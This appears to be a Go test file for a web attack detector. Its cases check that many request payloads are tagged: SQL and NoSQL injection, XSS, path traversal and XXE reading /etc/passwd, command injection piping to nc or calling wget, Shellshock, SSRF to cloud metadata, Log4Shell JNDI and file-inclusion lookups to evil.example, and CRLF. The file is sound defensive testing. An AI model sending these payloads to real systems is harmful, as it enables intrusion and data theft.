package detect

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/spoorhq/spoor/engine"
)

func TestTier1Finds(t *testing.T) {
	d := newTier1(t)
	tests := []struct {
		name string
		x    *engine.Exchange
		typ  string
		pt   string
		rule string
	}{
		{"sqli in query", get("/search?q=1%27%20or%20%271%27%3D%271"), engine.AttackSQLi, "req.query.q", "libinjection-sqli"},
		{"sqli with plus as space", get("/search?q=1+union+select+password+from+users--"), engine.AttackSQLi, "req.query.q", "libinjection-sqli"},
		{"sqli double encoded", get("/search?q=1%2527%2520or%25201%253D1--"), engine.AttackSQLi, "req.query.q", "libinjection-sqli"},
		{"sqli in path segment", get("/users/1' or '1'='1"), engine.AttackSQLi, "req.path", "libinjection-sqli"},
		{"sqli in cookie", get("/", "Cookie", "sid=abc; pref=1%27%20UNION%20SELECT%20NULL--"), engine.AttackSQLi, "req.cookie.pref", "libinjection-sqli"},
		{"sqli in form", post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"), engine.AttackSQLi, "req.form.user", "libinjection-sqli"},
		{"xss in json leaf", post("/api/users", "application/json", `{"user":{"name":"<img src=x onerror=alert(1)>"}}`), engine.AttackXSS, "req.json.user.name", "libinjection-xss"},
		{"xss in json array", post("/api/users", "application/json", `{"tags":["ok","<script>alert(1)</script>"]}`), engine.AttackXSS, "req.json.tags.1", "libinjection-xss"},
		{"xss with json escapes", post("/api", "application/json", `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), engine.AttackXSS, "req.json.q", "libinjection-xss"},
		{"xss fullwidth", get("/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"), engine.AttackXSS, "req.query.q", "libinjection-xss"},
		{"xss in referer", get("/", "Referer", "https://shop.example.com/?q=<script>alert(1)</script>"), engine.AttackXSS, "req.header.Referer", "libinjection-xss"},
		{"xss in custom header", get("/", "X-Remote-Ip", "<script>alert(1)</script>"), engine.AttackXSS, "req.header.X-Remote-Ip", "libinjection-xss"},
		{"javascript url", get("/?link=javascript:alert(document.domain)"), engine.AttackXSS, "req.query.link", "spoor-xss"},
		{"xss in xml attribute", post("/api", "application/xml", `<?xml version="1.0"?><r><a p="&lt;script&gt;alert(1)&lt;/script&gt;"/></r>`), engine.AttackXSS, "req.body", "libinjection-xss"},
		{"traversal in path", get("/static/../../etc/passwd"), engine.AttackPathTraversal, "req.path", "spoor-traversal"},
		{"traversal double encoded", get("/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"), engine.AttackPathTraversal, "req.query.file", "spoor-traversal"},
		{"traversal overlong", get("/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"), engine.AttackPathTraversal, "req.query.file", "spoor-traversal"},
		{"traversal backslash", get(`/download?file=..\..\windows\win.ini`), engine.AttackPathTraversal, "req.query.file", "spoor-traversal"},
		{"traversal in multipart file name", post("/upload", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"../../var/www/shell.php\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--XX--\r\n"), engine.AttackPathTraversal, "req.form.doc", "spoor-traversal"},
		{"lfi file", get("/view?page=/etc/passwd"), engine.AttackLFI, "req.query.page", "spoor-lfi"},
		{"restricted file", get("/app/.git/config"), engine.AttackLFI, "req.path", "spoor-restricted-file"},
		{"assistant settings", get("/.claude/settings.json"), engine.AttackLFI, "req.path", "spoor-restricted-file"},
		{"lfi php wrapper", get("/view?page=php://filter/convert.base64-encode/resource=index"), engine.AttackLFI, "req.query.page", "spoor-lfi"},
		{"cmdi separator", get("/ping?host=127.0.0.1;cat%20/etc/passwd"), engine.AttackCmdInjection, "req.query.host", "spoor-cmdi"},
		{"cmdi substitution", get("/ping?host=$(whoami)"), engine.AttackCmdInjection, "req.query.host", "spoor-cmdi"},
		{"cmdi backticks", get("/ping?host=%60id%60"), engine.AttackCmdInjection, "req.query.host", "spoor-cmdi"},
		{"cmdi pipe to nc", get("/ping?host=x|nc%2010.0.0.1%204444"), engine.AttackCmdInjection, "req.query.host", "spoor-cmdi"},
		{"cmdi empty variable", get("/ping?host=|$u%20wget%20evil"), engine.AttackCmdInjection, "req.query.host", "spoor-cmdi"},
		{"shellshock", get("/cgi-bin/status", "X-Custom", "() { :; }; /bin/bash -c 'id'"), engine.AttackCmdInjection, "req.header.X-Custom", "spoor-cmdi"},
		{"ssrf metadata", get("/fetch?url=http://169.254.169.254/latest/meta-data/"), engine.AttackSSRF, "req.query.url", "spoor-ssrf"},
		{"ssrf short loopback", get("/fetch?url=http://127.1:8080/admin"), engine.AttackSSRF, "req.query.url", "spoor-ssrf"},
		{"ssrf integer address", get("/fetch?url=http://2130706433/"), engine.AttackSSRF, "req.query.url", "spoor-ssrf"},
		{"ssrf mapped ipv6", get("/fetch?url=http://[::ffff:127.0.0.1]/"), engine.AttackSSRF, "req.query.url", "spoor-ssrf"},
		{"ssrf private in json", post("/hooks", "application/json", `{"hooks":[{"url":"https://10.0.0.5/internal"}]}`), engine.AttackSSRF, "req.json.hooks.0.url", "spoor-ssrf"},
		{"ssrf scheme-less", post("/hooks", "application/json", `{"webhook":"192.168.1.1:8080/admin"}`), engine.AttackSSRF, "req.json.webhook", "spoor-ssrf"},
		{"ssrf gopher", get("/fetch?u=gopher://mail.example.com:25/_HELO"), engine.AttackSSRF, "req.query.u", "spoor-ssrf"},
		{"ssrf wildcard dns", get("/fetch?url=http://127.0.0.1.nip.io/"), engine.AttackSSRF, "req.query.url", "spoor-ssrf"},
		{"rfi trailing question mark", get("/index.php?page=http://evil.example/shell.txt?"), engine.AttackRFI, "req.query.page", "spoor-rfi"},
		{"nosqli query name", get("/login?user=admin&password[$ne]=x"), engine.AttackNoSQLi, "req.query.password[$ne]", "spoor-nosqli"},
		{"nosqli json key", post("/login", "application/json", `{"user":"admin","password":{"$gt":""}}`), engine.AttackNoSQLi, "req.json.password", "spoor-nosqli"},
		{"nosqli json in param", get(`/find?filter={"age":{"$where":"sleep(1000)"}}`), engine.AttackNoSQLi, "req.query.filter", "spoor-nosqli"},
		{"ssti jinja", get("/hello?name={{7*7}}"), engine.AttackSSTI, "req.query.name", "spoor-ssti"},
		{"ssti jinja object", get("/hello?name={{config}}"), engine.AttackSSTI, "req.query.name", "spoor-ssti"},
		{"ssti expression language", get("/hello?name=${7*7}"), engine.AttackSSTI, "req.query.name", "spoor-ssti"},
		{"ssti erb", get("/hello?name=<%25=%207*7%20%25>"), engine.AttackSSTI, "req.query.name", "spoor-ssti"},
		{"jndi in any header", get("/", "X-Api-Version", "${jndi:ldap://evil.example/a}"), engine.AttackGeneric, "req.header.X-Api-Version", "spoor-jndi"},
		{"jndi in structured header", get("/", "Authorization", "Bearer ${jndi:ldap://evil.example/a}"), engine.AttackGeneric, "req.header.Authorization", "spoor-jndi"},
		{"prototype pollution", post("/api", "application/json", `{"__proto__":{"admin":true}}`), engine.AttackGeneric, "req.json.__proto__", "spoor-prototype"},
		{"crlf in query", get("/redirect?to=/home%0d%0aSet-Cookie:%20sid=evil"), engine.AttackCRLF, "req.query.to", "spoor-crlf"},
		{"crlf double encoded", get("/redirect?to=/home%250d%250aLocation:%20//evil"), engine.AttackCRLF, "req.query.to", "spoor-crlf"},
		{"open redirect", get("/login?next=https://evil.example/phish"), engine.AttackOpenRedirect, "req.query.next", "spoor-redirect"},
		{"open redirect protocol relative", get("/login?return_to=//evil.example/"), engine.AttackOpenRedirect, "req.query.return_to", "spoor-redirect"},
		{"open redirect backslash", get(`/login?next=/\evil.example`), engine.AttackOpenRedirect, "req.query.next", "spoor-redirect"},
		{"scanner agent", get("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), engine.AttackScanner, "req.header.User-Agent", "spoor-scanner"},
		{"scanner header", get("/", "Acunetix-Product", "WVS/10.0"), engine.AttackScanner, "req.header.Acunetix-Product", "spoor-scanner"},
		{"xxe", post("/api", "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), engine.AttackXXE, "req.body", "spoor-xxe"},
		{"session fixation", get("/app;x=1?jsessionid=0123456789ABCDEF"), engine.AttackSessionFixation, "req.query.jsessionid", "spoor-session-fixation"},
		{"cookie set from script", get("/?c=%3Cscript%3Edocument.cookie%3D%22sid%3Devil%22%3C/script%3E"), engine.AttackSessionFixation, "req.query.c", "spoor-session-fixation"},
		{"gzip json body", func() *engine.Exchange {
			x := post("/api", "application/json", "")
			x.ReqBody.Data = gzipped(`{"q":"' or 1=1--"}`)
			x.ReqHeaders = append(x.ReqHeaders, engine.Header{Name: "Content-Encoding", Value: "gzip"})
			return x
		}(), engine.AttackSQLi, "req.json.q", "libinjection-sqli"},
		{"form without content type", post("/login", "", "user=admin%27--"), engine.AttackSQLi, "req.form.user", "libinjection-sqli"},
		{"text body", post("/notes", "text/plain", "<script>alert(1)</script>"), engine.AttackXSS, "req.body", "libinjection-xss"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tags := d.Tier1(tt.x)
			for _, tag := range tags {
				if tag.Type == tt.typ && tag.Point == tt.pt {
					if tag.Rule != tt.rule {
						t.Errorf("rule %q, want %q", tag.Rule, tt.rule)
					}
					if tag.Message == "" || tag.Fragment == "" {
						t.Errorf("tag without message or fragment: %+v", tag)
					}
					return
				}
			}
			t.Errorf("no %s tag at %s; got %+v", tt.typ, tt.pt, tags)
		})
	}
}

func TestTier1Clean(t *testing.T) {
	d := newTier1(t)
	tests := []struct {
		name string
		x    *engine.Exchange
	}{
		{"typical", typicalExchange()},
		{"prose with separators", get("/search?q=Tom+%26+Jerry%3B+cat+lovers+%7C+sleep+well")},
		{"apostrophe name", post("/api/users", "application/json", `{"name":"Seán O'Brien","city":"Dún Laoghaire"}`)},
		{"prices and variables", get("/cart?total=$5.00&tpl={{name}}&msg=${user}")},
		{"ellipsis", get("/search?q=wait...+what%3F+and/or")},
		{"uuid and hash", get("/orders/7c1e0f4a-9b2d-4e8a-a1f3-52c6d9e0b7aa?etag=d41d8cd98f00b204e9800998ecf8427e")},
		{"numeric page in url parameter", get("/list?url=2&host=3&page=4")},
		{"private address outside url parameters", get("/admin/leases?ip=10.0.0.5&gateway=192.168.1.1")},
		{"same-site redirect", get("/login?next=https://www.shop.example.com/account")},
		{"oauth redirect_uri", get("/authorize?redirect_uri=https://client.example/cb&response_type=code")},
		{"opera mini agent", get("/", "User-Agent", "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10")},
		{"ie touch agent", get("/", "User-Agent", "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko")},
		{"googlebot", get("/", "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")},
		{"multi-line form text", post("/contact", "application/x-www-form-urlencoded", "msg=Hello%0D%0ARe%3A+lunch%0D%0Athanks")},
		{"xml without entities", post("/api", "application/xml", `<?xml version="1.0"?><order id="42"><item sku="A-1">2</item></order>`)},
		{"binary body", post("/upload", "application/octet-stream", "\x00\x01' or 1=1--\x02")},
		{"accept header", get("/", "Accept", "text/html;q=0.9,*/*;q=0.8' or '1'='1")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tags := d.Tier1(tt.x); tags != nil {
				t.Errorf("tagged: %+v", tags)
			}
		})
	}
}

func TestTier1Dedup(t *testing.T) {
	d := newTier1(t)
	tags := d.Tier1(get("/search?q=1'+or+'1'='1+union+select+1--&q=<script>alert(1)</script>"))
	n := 0
	for _, tag := range tags {
		if tag.Type == engine.AttackSQLi && tag.Point == "req.query.q" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d sqli tags at req.query.q, want 1: %+v", n, tags)
	}
	checkTag(t, tags, engine.AttackXSS, "req.query.q")
}

func TestTier1Fragment(t *testing.T) {
	d := newTier1(t)
	long := strings.Repeat("é", 100) + "' or '1'='1" + strings.Repeat("ü", 100)
	tags := d.Tier1(post("/api", "application/json", `{"q":"`+long+`"}`))
	if len(tags) == 0 {
		t.Fatal("not tagged")
	}
	for _, tag := range tags {
		if len(tag.Fragment) > maxFragment || !utf8.ValidString(tag.Fragment) {
			t.Errorf("fragment %q: %d bytes, valid %v", tag.Fragment, len(tag.Fragment), utf8.ValidString(tag.Fragment))
		}
	}
}

// TestTier1Reuse checks that pooled scans forget the previous exchange and
// that the clean-header cache never hides a finding.
func TestTier1Reuse(t *testing.T) {
	d := newTier1(t)
	attack := get("/?q=<script>alert(1)</script>", "Referer", "https://shop.example.com/")
	for i := 0; i < 3; i++ {
		if tags := d.Tier1(typicalExchange()); tags != nil {
			t.Fatalf("round %d: clean exchange tagged %+v", i, tags)
		}
		checkTag(t, d.Tier1(attack), engine.AttackXSS, "req.query.q")
	}
	bad := get("/", "User-Agent", "Mozilla/5.0 <script>alert(1)</script>")
	for i := 0; i < 2; i++ {
		checkTag(t, d.Tier1(bad), engine.AttackXSS, "req.header.User-Agent")
	}
}
